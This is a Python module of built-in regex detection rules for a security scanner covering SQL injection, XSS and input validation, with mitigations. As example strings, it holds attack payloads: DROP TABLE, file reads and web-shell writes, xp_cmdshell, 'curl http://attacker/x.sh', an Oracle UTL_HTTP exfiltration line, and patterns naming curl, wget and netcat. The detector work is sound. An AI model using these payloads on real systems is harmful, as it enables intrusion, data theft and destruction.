# SPDX-FileCopyrightText: 2025 Theori Inc.
# SPDX-License-Identifier: AGPL-3.0-or-later

"""
Built-in pattern tables.

Every expression uses bounded repetition (``{0,N}``) instead of nested open-ended
quantifiers so matching stays linear in input length.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

from ..models.pattern import SecurityPattern
from ..models.types import ALL_DIALECTS, Dialect, Severity, VulnerabilityClass

_FLAGS: Final = re.IGNORECASE


def _pattern(
    id: str,
    name: str,
    regex: str,
    severity: Severity,
    category: str,
    *,
    description: str,
    dialects: Iterable[Dialect] = ALL_DIALECTS,
    vulnerability_class: VulnerabilityClass = VulnerabilityClass.SQL_INJECTION,
    examples: tuple[str, ...] = (),
    mitigation: str = "",
    flags: int = 0,
) -> SecurityPattern:
    return SecurityPattern(
        id=id,
        name=name,
        description=description,
        matcher=re.compile(regex, _FLAGS | flags),
        severity=severity,
        category=category,
        vulnerability_class=vulnerability_class,
        dialects=frozenset(dialects),
        examples=examples,
        mitigation=mitigation,
    )


_WEB = VulnerabilityClass.XSS
_INPUT = VulnerabilityClass.INPUT_VALIDATION

SQL_INJECTION_PATTERNS: Final[tuple[SecurityPattern, ...]] = (
    _pattern(
        "sqli-stacked-queries",
        "Stacked queries",
        r";\s*(?:DROP|DELETE|INSERT|UPDATE|CREATE|ALTER|TRUNCATE|EXEC(?:UTE)?|DECLARE|SHUTDOWN)\b",
        Severity.CRITICAL,
        "stacked_queries",
        description="Statement terminator followed by a second data-modifying or administrative statement",
        examples=("1; DROP TABLE users", "'; DELETE FROM accounts --"),
        mitigation="Disable multi-statement execution and use parameterized queries",
    ),
    _pattern(
        "sqli-destructive-ddl",
        "Destructive DDL",
        r"\b(?:DROP|TRUNCATE)\s+(?:TABLE|DATABASE|SCHEMA)\b",
        Severity.CRITICAL,
        "destructive_operation",
        description="DROP or TRUNCATE of a table, schema or database",
        examples=("DROP TABLE users", "TRUNCATE TABLE audit_log"),
        mitigation="Run application connections without DDL privileges",
    ),
    _pattern(
        "sqli-union-based",
        "UNION-based injection",
        r"\bUNION\b(?:\s|/\*[^*]{0,64}\*/){1,64}(?:ALL\s+|DISTINCT\s+)?SELECT\b",
        Severity.HIGH,
        "union_based",
        description="UNION SELECT appended to extract data from other tables",
        examples=("1 UNION SELECT username, password FROM users", "' UNION ALL SELECT NULL,NULL--"),
        mitigation="Use parameterized queries and validate the shape of numeric inputs",
    ),
    _pattern(
        "sqli-tautology-string",
        "String tautology",
        r"'\s*(?:OR|AND)\s*'[^']{0,64}'\s*=\s*'",
        Severity.HIGH,
        "boolean_based",
        description="Quote break followed by an always-true string comparison",
        examples=("' OR 'a'='a", "admin' OR '1'='1"),
        mitigation="Bind string inputs as parameters instead of concatenating them",
    ),
    _pattern(
        "sqli-tautology-numeric",
        "Quoted numeric tautology",
        r"'\s*(?:OR|AND)\s+'?\d{1,10}'?\s*=\s*'?\d{1,10}",
        Severity.HIGH,
        "boolean_based",
        description="Quote break followed by a numeric comparison such as OR 1=1",
        examples=("' OR 1=1", "1' AND '1'='1"),
        mitigation="Bind inputs as parameters and enforce numeric types",
    ),
    _pattern(
        "sqli-boolean-blind",
        "Unquoted tautology",
        r"\b(?:OR|AND)\s+(\d{1,10})\s*=\s*\1\b",
        Severity.HIGH,
        "boolean_based",
        description="Always-true numeric comparison appended to a WHERE clause",
        examples=("1 OR 1=1", "id=5 AND 7=7"),
        mitigation="Enforce numeric types for identifiers and bind them as parameters",
    ),
    _pattern(
        "sqli-quote-comment",
        "Quote break with comment",
        r"'\s*(?:--|#|/\*)",
        Severity.HIGH,
        "comment_injection",
        description="String literal closed early and the remainder of the statement commented out",
        examples=("admin'--", "x'/*"),
        mitigation="Bind string inputs as parameters; never build statements from raw input",
    ),
    _pattern(
        "sqli-time-mysql",
        "MySQL time delay",
        r"\b(?:SLEEP|BENCHMARK)\s*\(",
        Severity.HIGH,
        "time_based",
        description="SLEEP or BENCHMARK call used for time-based blind extraction",
        dialects=(Dialect.MYSQL,),
        examples=("1 AND SLEEP(5)", "BENCHMARK(1000000,MD5(1))"),
        mitigation="Enforce statement timeouts and parameterize inputs",
    ),
    _pattern(
        "sqli-time-postgresql",
        "PostgreSQL time delay",
        r"\bPG_SLEEP(?:_FOR|_UNTIL)?\s*\(",
        Severity.HIGH,
        "time_based",
        description="pg_sleep call used for time-based blind extraction",
        dialects=(Dialect.POSTGRESQL,),
        examples=("1; SELECT pg_sleep(5)",),
        mitigation="Set statement_timeout and parameterize inputs",
    ),
    _pattern(
        "sqli-time-mssql",
        "SQL Server time delay",
        r"\bWAITFOR\s+(?:DELAY|TIME)\b",
        Severity.HIGH,
        "time_based",
        description="WAITFOR DELAY used for time-based blind extraction",
        dialects=(Dialect.MSSQL,),
        examples=("1; WAITFOR DELAY '00:00:05'",),
        mitigation="Enforce query timeouts and parameterize inputs",
    ),
    _pattern(
        "sqli-time-oracle",
        "Oracle time delay",
        r"\bDBMS_(?:LOCK\.SLEEP|PIPE\.RECEIVE_MESSAGE)\b",
        Severity.HIGH,
        "time_based",
        description="DBMS_LOCK.SLEEP or DBMS_PIPE.RECEIVE_MESSAGE used to delay responses",
        dialects=(Dialect.ORACLE,),
        examples=("DBMS_PIPE.RECEIVE_MESSAGE('a',5)",),
        mitigation="Revoke EXECUTE on DBMS_LOCK/DBMS_PIPE from application users",
    ),
    _pattern(
        "sqli-time-sqlite",
        "SQLite heavy query",
        r"\bRANDOMBLOB\s*\(\s*\d{6,12}",
        Severity.MEDIUM,
        "time_based",
        description="Large RANDOMBLOB allocation used to create measurable delays",
        dialects=(Dialect.SQLITE,),
        examples=("1 AND 1=LIKE('ABC',UPPER(HEX(RANDOMBLOB(500000000))))",),
        mitigation="Bound query execution time and parameterize inputs",
    ),
    _pattern(
        "sqli-error-xml",
        "XML error extraction",
        r"\b(?:EXTRACTVALUE|UPDATEXML)\s*\(",
        Severity.HIGH,
        "error_based",
        description="EXTRACTVALUE/UPDATEXML abused to leak data through error messages",
        dialects=(Dialect.MYSQL,),
        examples=("AND EXTRACTVALUE(1, CONCAT(0x7e, version()))",),
        mitigation="Suppress database error details in responses",
    ),
    _pattern(
        "sqli-error-conversion",
        "Type conversion probe",
        r"\b(?:CAST|CONVERT)\s*\(",
        Severity.MEDIUM,
        "error_based",
        description="CAST/CONVERT used to force conversion errors that reveal data",
        examples=("AND 1=CONVERT(int, @@version)", "CAST(password AS int)"),
        mitigation="Suppress database error details in responses",
    ),
    _pattern(
        "sqli-comment-line",
        "Line comment",
        r"--[^\r\n]{0,512}",
        Severity.MEDIUM,
        "comment_injection",
        description="Double-dash comment that may truncate the rest of a statement",
        examples=("admin' --", "1 -- comment"),
        mitigation="Reject comment sequences in user-supplied values",
    ),
    _pattern(
        "sqli-comment-block",
        "Block comment",
        r"/\*.{0,2048}?\*/",
        Severity.LOW,
        "comment_injection",
        description="Inline block comment, often used to split keywords and evade filters",
        examples=("UN/**/ION SELECT", "/*!50000SELECT*/"),
        mitigation="Normalize input and reject comment sequences",
        flags=re.DOTALL,
    ),
    _pattern(
        "sqli-comment-hash",
        "Hash comment",
        r"#[^\r\n]{0,512}",
        Severity.LOW,
        "comment_injection",
        description="MySQL hash comment that may truncate the rest of a statement",
        dialects=(Dialect.MYSQL,),
        examples=("admin'#",),
        mitigation="Reject comment sequences in user-supplied values",
    ),
    _pattern(
        "sqli-function-abuse",
        "String function probing",
        r"\b(?:CONCAT(?:_WS)?|SUBSTRING|SUBSTR|ASCII|CHAR|CHR|LENGTH|MID|HEX|UNHEX|ORD)\s*\(",
        Severity.LOW,
        "function_abuse",
        description="String functions commonly used to extract data character by character",
        examples=("ASCII(SUBSTRING(password,1,1))>64",),
        mitigation="Parameterize inputs and restrict function access where possible",
    ),
    _pattern(
        "sqli-dynamic-exec",
        "Dynamic SQL execution",
        r"\bEXEC(?:UTE)?\s*\(|\bEXEC(?:UTE)?\s+(?:IMMEDIATE\b|sp_executesql\b|@)",
        Severity.HIGH,
        "command_execution",
        description="Dynamic execution of a constructed SQL string",
        examples=("EXEC(@sql)", "EXECUTE IMMEDIATE 'DROP TABLE t'"),
        mitigation="Avoid dynamic SQL or bind all values through sp_executesql parameters",
    ),
    _pattern(
        "sqli-file-mysql",
        "MySQL file access",
        r"\bLOAD_FILE\s*\(|\bINTO\s+(?:OUT|DUMP)FILE\b",
        Severity.CRITICAL,
        "file_access",
        description="LOAD_FILE or INTO OUTFILE/DUMPFILE reading or writing server files",
        dialects=(Dialect.MYSQL,),
        examples=("UNION SELECT LOAD_FILE('/etc/passwd')", "INTO OUTFILE '/var/www/shell.php'"),
        mitigation="Revoke the FILE privilege and set secure_file_priv",
    ),
    _pattern(
        "sqli-file-postgresql",
        "PostgreSQL file access",
        r"\bCOPY\b[^;]{0,200}?\b(?:FROM|TO)\s+(?:PROGRAM\b|')|\bPG_(?:READ_FILE|READ_BINARY_FILE|LS_DIR)\s*\(",
        Severity.CRITICAL,
        "file_access",
        description="COPY ... PROGRAM or pg_read_file reaching the server filesystem",
        dialects=(Dialect.POSTGRESQL,),
        examples=("COPY t FROM PROGRAM 'id'", "SELECT pg_read_file('/etc/passwd')"),
        mitigation="Do not grant pg_read_server_files/pg_execute_server_program to application roles",
    ),
    _pattern(
        "sqli-cmd-mssql",
        "SQL Server command execution",
        r"\bxp_cmdshell\b|\bOPENROWSET\s*\(|\bOPENDATASOURCE\s*\(|\bsp_OACreate\b",
        Severity.CRITICAL,
        "command_execution",
        description="xp_cmdshell, OLE automation or ad-hoc remote data sources",
        dialects=(Dialect.MSSQL,),
        examples=("EXEC xp_cmdshell 'whoami'", "SELECT * FROM OPENROWSET('SQLOLEDB', ...)"),
        mitigation="Disable xp_cmdshell and ad hoc distributed queries",
    ),
    _pattern(
        "sqli-oracle-out-of-band",
        "Oracle out-of-band channel",
        r"\bUTL_(?:HTTP|INADDR|FILE|TCP)\.\w{1,40}|\bDBMS_XMLGEN\b",
        Severity.HIGH,
        "file_access",
        description="UTL_HTTP/UTL_FILE packages used to exfiltrate data or touch files",
        dialects=(Dialect.ORACLE,),
        examples=("UTL_HTTP.REQUEST('http://attacker/'||user)",),
        mitigation="Revoke EXECUTE on UTL_* packages from application users",
    ),
    _pattern(
        "sqli-sqlite-attach",
        "SQLite attach/extension",
        r"\bATTACH\s+DATABASE\b|\bload_extension\s*\(",
        Severity.CRITICAL,
        "file_access",
        description="ATTACH DATABASE or load_extension writing files or loading native code",
        dialects=(Dialect.SQLITE,),
        examples=("'; ATTACH DATABASE '/var/www/x.php' AS x --",),
        mitigation="Open SQLite connections read-only and disable extension loading",
    ),
    _pattern(
        "sqli-schema-enumeration",
        "Schema enumeration",
        r"\b(?:information_schema|sysobjects|syscolumns|sys\.tables|pg_catalog|pg_tables|sqlite_master|sqlite_schema|all_tables|user_tables|mysql\.user)\b",
        Severity.MEDIUM,
        "schema_enumeration",
        description="References to system catalogs used to map tables and columns",
        examples=("UNION SELECT table_name FROM information_schema.tables",),
        mitigation="Restrict catalog visibility for application accounts",
    ),
    _pattern(
        "sqli-version-fingerprint",
        "Version fingerprinting",
        r"@@version\b|\bversion\s*\(\s*\)|\bsqlite_version\s*\(|\bbanner\s+FROM\s+v\$version",
        Severity.MEDIUM,
        "schema_enumeration",
        description="Queries for the database version banner",
        examples=("UNION SELECT @@version", "SELECT banner FROM v$version"),
        mitigation="Suppress version details and restrict metadata access",
    ),
    _pattern(
        "sqli-hex-obfuscation",
        "Hex-encoded literal",
        r"\b0x[0-9a-f]{8,}\b",
        Severity.LOW,
        "obfuscation",
        description="Long hexadecimal literal used to smuggle strings past filters",
        examples=("SELECT 0x61646d696e",),
        mitigation="Normalize and validate input encoding before use",
    ),
)

XSS_PATTERNS: Final[tuple[SecurityPattern, ...]] = (
    _pattern(
        "xss-script-tag",
        "Script tag",
        r"<script\b[^>]{0,200}>",
        Severity.HIGH,
        "script_injection",
        description="Inline <script> element",
        vulnerability_class=_WEB,
        dialects=(),
        examples=("<script>alert(1)</script>",),
        mitigation="Encode output and apply a Content Security Policy",
    ),
    _pattern(
        "xss-event-handler",
        "Event handler attribute",
        r"<[a-z][^>]{0,200}\bon[a-z]{3,20}\s*=",
        Severity.HIGH,
        "attribute_injection",
        description="HTML element carrying an inline on* event handler",
        vulnerability_class=_WEB,
        dialects=(),
        examples=('<img src=x onerror="alert(1)">',),
        mitigation="Encode attribute values and strip event handlers from user markup",
    ),
    _pattern(
        "xss-javascript-uri",
        "javascript: URI",
        r"\bjavascript\s*:",
        Severity.HIGH,
        "uri_injection",
        description="javascript: scheme in a link or attribute",
        vulnerability_class=_WEB,
        dialects=(),
        examples=('<a href="javascript:alert(1)">',),
        mitigation="Allow-list URL schemes for user-supplied links",
    ),
    _pattern(
        "xss-frame-embed",
        "Embedded frame or object",
        r"<(?:iframe|object|embed)\b",
        Severity.MEDIUM,
        "content_injection",
        description="iframe/object/embed element loading foreign content",
        vulnerability_class=_WEB,
        dialects=(),
        examples=('<iframe src="https://evil.example">',),
        mitigation="Sanitize markup with an allow-list and set frame-ancestors in CSP",
    ),
    _pattern(
        "xss-dom-sink",
        "DOM sink",
        r"\bdocument\.(?:cookie|write)\b|\beval\s*\(|\.innerHTML\s*=",
        Severity.MEDIUM,
        "dom_injection",
        description="Direct use of DOM sinks that execute or inject markup",
        vulnerability_class=_WEB,
        dialects=(),
        examples=("document.cookie", "el.innerHTML = input"),
        mitigation="Use safe DOM APIs such as textContent",
    ),
    _pattern(
        "xss-image-source",
        "Image source",
        r"<img\b[^>]{0,200}\bsrc\s*=",
        Severity.LOW,
        "content_injection",
        description="Image element with a user-controlled source",
        vulnerability_class=_WEB,
        dialects=(),
        examples=('<img src="http://tracker.example/p.gif">',),
        mitigation="Validate image URLs against an allow-list",
    ),
)

INPUT_VALIDATION_PATTERNS: Final[tuple[SecurityPattern, ...]] = (
    _pattern(
        "input-path-traversal",
        "Path traversal",
        r"\.\.[/\\]",
        Severity.HIGH,
        "path_traversal",
        description="Parent-directory sequence used to escape a base path",
        vulnerability_class=_INPUT,
        dialects=(),
        examples=("../../etc/passwd", "..\\windows\\win.ini"),
        mitigation="Resolve paths and verify they remain under the allowed root",
    ),
    _pattern(
        "input-command-injection",
        "Shell command chaining",
        r"(?:[;&|`]|\$\()\s*(?:rm|cat|ls|id|whoami|wget|curl|nc|netcat|bash|sh|powershell|cmd)\b",
        Severity.HIGH,
        "command_injection",
        description="Shell separator followed by a common command",
        vulnerability_class=_INPUT,
        dialects=(),
        examples=("x; cat /etc/passwd", "$(whoami)"),
        mitigation="Never pass user input to a shell; use argument vectors",
    ),
    _pattern(
        "input-remote-fetch",
        "Remote fetch tool",
        r"\b(?:wget|curl|nc|netcat)\s+\S",
        Severity.HIGH,
        "command_injection",
        description="Network utilities used to download payloads or open shells",
        vulnerability_class=_INPUT,
        dialects=(),
        examples=("curl http://attacker/x.sh",),
        mitigation="Reject shell tooling in inputs and run services without outbound access",
    ),
    _pattern(
        "input-file-inclusion",
        "File inclusion",
        r"\b(?:include|require)(?:_once)?\s*[\('\"]|\bfile_get_contents\s*\(",
        Severity.MEDIUM,
        "file_inclusion",
        description="Server-side include/require of a user-controlled path",
        vulnerability_class=_INPUT,
        dialects=(),
        examples=("include('http://attacker/shell.txt')",),
        mitigation="Map user choices to a fixed allow-list of files",
    ),
    _pattern(
        "input-dangerous-scheme",
        "Dangerous URL scheme",
        r"\b(?:file|ftp|gopher|php|expect)://|\bdata:[a-z]{1,30}/",
        Severity.MEDIUM,
        "scheme_abuse",
        description="URL scheme that reaches local files or alternate protocols",
        vulnerability_class=_INPUT,
        dialects=(),
        examples=("file:///etc/passwd", "data:text/html;base64,PHNjcmlwdD4="),
        mitigation="Allow-list http/https schemes for user-supplied URLs",
    ),
    _pattern(
        "input-null-byte",
        "Null byte",
        r"%00|\x00",
        Severity.MEDIUM,
        "encoding_abuse",
        description="Null byte used to truncate strings in downstream consumers",
        vulnerability_class=_INPUT,
        dialects=(),
        examples=("shell.php%00.jpg",),
        mitigation="Reject control characters during validation",
    ),
    _pattern(
        "input-shell-metacharacter",
        "Shell metacharacter",
        r"[;&|`]|\$\(",
        Severity.LOW,
        "command_injection",
        description="Shell metacharacter present in input",
        vulnerability_class=_INPUT,
        dialects=(),
        examples=("a;b", "a|b"),
        mitigation="Apply allow-list validation to free-form fields",
    ),
)

BUILTIN_PATTERNS: Final[tuple[SecurityPattern, ...]] = SQL_INJECTION_PATTERNS + XSS_PATTERNS + INPUT_VALIDATION_PATTERNS

__all__ = ["BUILTIN_PATTERNS", "INPUT_VALIDATION_PATTERNS", "SQL_INJECTION_PATTERNS", "XSS_PATTERNS"]
